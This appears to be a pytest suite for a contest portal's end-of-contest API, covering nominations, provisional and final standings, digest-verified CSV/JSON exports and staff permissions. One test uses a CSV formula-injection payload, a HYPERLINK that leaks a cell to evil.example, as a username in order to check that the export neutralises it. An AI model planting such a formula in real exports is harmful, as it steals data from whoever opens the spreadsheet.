"""The REST endpoints of the end of a contest (docs/api.md)."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
import time_machine

from portal.standings.models import Standings
from portal.submissions.models import Submission
from tests import factories
from tests.web.boards import official_run


def test_nominations_get_and_put(closing, alice, bob, client_for):
    mine = official_run(closing, alice, 200).submission
    best = official_run(closing, alice, 100).submission
    theirs = official_run(closing, bob, 100).submission
    client = client_for(alice)
    url = f"/api/v1/benchmarks/{closing.slug}/nominations/"
    body = client.get(url).json()
    assert body["default"] is True and body["counted"] == [best.pk, mine.pk]
    body = client.put(url, {"submission_ids": [mine.pk]}, format="json").json()
    assert body["nominated"] == [mine.pk] and body["counted"] == [mine.pk]
    refused = client.put(url, {"submission_ids": [theirs.pk]}, format="json")
    assert refused.status_code == 404 and refused.json()["code"] == "not_found"
    refused = client.put(url, {"submission_ids": [1, 2, 3]}, format="json")
    assert refused.status_code == 400 and refused.json()["code"] == "invalid_parameter"
    with time_machine.travel(closing.closes_at, tick=False):
        refused = client.put(url, {"submission_ids": []}, format="json")
    assert refused.status_code == 409 and refused.json()["code"] == "window_closed"


def test_nominations_need_a_sign_in(closing, client):
    response = client.get(f"/api/v1/benchmarks/{closing.slug}/nominations/")
    assert response.status_code == 401


def test_the_leaderboard_says_provisional_after_the_close(closing, client, alice):
    official_run(closing, alice, 100)
    url = f"/api/v1/benchmarks/{closing.slug}/leaderboard/"
    assert client.get(url).json()["state"] == "live"
    with time_machine.travel(closing.closes_at, tick=False):
        assert client.get(url).json()["state"] == "provisional"
        page = client.get(f"/b/{closing.slug}/").content.decode()
    assert "provisional" in page


def test_publish_is_staff_only_and_the_exports_verify(
    closing, alice, bob, staff, client_for, client, after_close
):
    official_run(closing, alice, 100)
    official_run(closing, bob, 200)
    base = f"/api/v1/benchmarks/{closing.slug}/"
    assert client.get(f"{base}standings/").status_code == 404
    with time_machine.travel(after_close, tick=False):
        refused = client_for(alice).post(f"{base}standings/publish/", {"reason": "x"})
        assert refused.status_code == 404
        response = client_for(staff).post(f"{base}standings/publish/", {"reason": "results"})
    assert response.status_code == 201, response.content
    body = client.get(f"{base}standings/").json()
    assert body["state"] == "final" and body["source"] == "board"
    assert [(r["rank"], r["entrant"]) for r in body["rows"]] == [(1, "alice"), (2, "bob")]
    csv = client.get(f"{base}standings.csv")
    assert csv["Content-Type"].startswith("text/csv")
    digest = "sha256:" + hashlib.sha256(csv.content).hexdigest()
    assert digest == body["digest"] == csv["X-Podium-Digest"]
    exported = json.loads(client.get(f"{base}standings.json").content)
    assert exported["digest"] == digest and exported["rows"] == body["rows"]
    assert client.get(f"{base}standings.csv").content == csv.content  # stable


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your prize")'


def test_an_entrant_named_like_a_formula_is_text_in_the_exported_csv(
    closing, alice, staff, client_for, client, after_close
):
    # Opened in a spreadsheet, the standings must not run what an entrant named himself.
    mallet = factories.UserFactory(username=FORMULA)
    official_run(closing, mallet, 100)
    official_run(closing, alice, 200)
    base = f"/api/v1/benchmarks/{closing.slug}/"
    with time_machine.travel(after_close, tick=False):
        published = client_for(staff).post(f"{base}standings/publish/", {"reason": "results"})
    assert published.status_code == 201, published.content

    exported = client.get(f"{base}standings.csv")

    rows = list(csv.reader(io.StringIO(exported.content.decode())))
    assert [row[1] for row in rows[1:]] == ["'" + FORMULA, "alice"]
    digest = "sha256:" + hashlib.sha256(exported.content).hexdigest()
    assert digest == exported["X-Podium-Digest"] == client.get(f"{base}standings/").json()["digest"]
    assert client.get(f"{base}standings/").json()["rows"][0]["entrant"] == FORMULA


def test_standings_published_before_cells_were_neutralised_still_verify(
    closing, alice, staff, client_for, client, after_close
):
    official_run(closing, factories.UserFactory(username="-2+3"), 100)
    official_run(closing, alice, 200)
    base = f"/api/v1/benchmarks/{closing.slug}/"
    with time_machine.travel(after_close, tick=False):
        client_for(staff).post(f"{base}standings/publish/", {"reason": "results"})
    # As published by an earlier version: the digest of the plain CSV.
    standings = Standings.objects.get(benchmark=closing)
    plain = "rank,entrant,submission_id,wall_time_ns,runs,tied\n" + "".join(
        f"{r.rank},{r.entrant},{r.submission_id},{r.wall_time_ns},{r.runs},false\n"
        for r in standings.rows.order_by("position")
    )
    standings.digest = "sha256:" + hashlib.sha256(plain.encode()).hexdigest()
    standings.save()

    exported = client.get(f"{base}standings.csv")

    assert exported.content.decode() == plain
    assert "sha256:" + hashlib.sha256(exported.content).hexdigest() == standings.digest
    assert exported["X-Podium-Digest"] == standings.digest
    # The same rows in the old form change nothing: a correction is refused, the digest kept.
    with time_machine.travel(after_close, tick=False):
        corrected = client_for(staff).post(f"{base}standings/correct/", {"reason": "again"})
    assert corrected.status_code == 400, corrected.content
    assert "Nothing would change" in corrected.json()["detail"]
    assert Standings.objects.get(benchmark=closing).digest == standings.digest


def test_staff_without_the_permission_get_permission_denied(closing, client_for, after_close):
    clerk = factories.UserFactory(username="clerk", is_staff=True)
    with time_machine.travel(after_close, tick=False):
        response = client_for(clerk).post(
            f"/api/v1/benchmarks/{closing.slug}/standings/publish/", {"reason": "x"}
        )
    assert response.status_code == 403 and response.json()["code"] == "permission_denied"


def test_final_rerun_start_and_progress(closing, alice, staff, client_for, after_close):
    official_run(closing, alice, 100)
    client = client_for(staff)
    url = f"/api/v1/benchmarks/{closing.slug}/final-rerun/"
    assert client.get(url).status_code == 404
    with time_machine.travel(after_close, tick=False):
        response = client.post(
            url, {"reason": "over", "confirm_official_cohort": "rerun on the official cohort"}
        )
    assert response.status_code == 201, response.content
    body = client.get(url).json()
    assert body["cohort"] == "official" and body["final_runs"] == 3 and body["complete"] is False


@pytest.mark.parametrize("path", ["nominations/"])
def test_the_nominations_page(closing, alice, client, path):
    mine = official_run(closing, alice, 100).submission
    client.force_login(alice)
    page = client.get(f"/b/{closing.slug}/{path}").content.decode()
    assert f"#{mine.pk}" in page
    client.post(f"/b/{closing.slug}/{path}", {"submission": [str(mine.pk)]})
    assert Submission.objects.get(pk=mine.pk).entrant == alice
    from portal.standings.models import Nomination

    assert Nomination.objects.filter(submission=mine).exists()
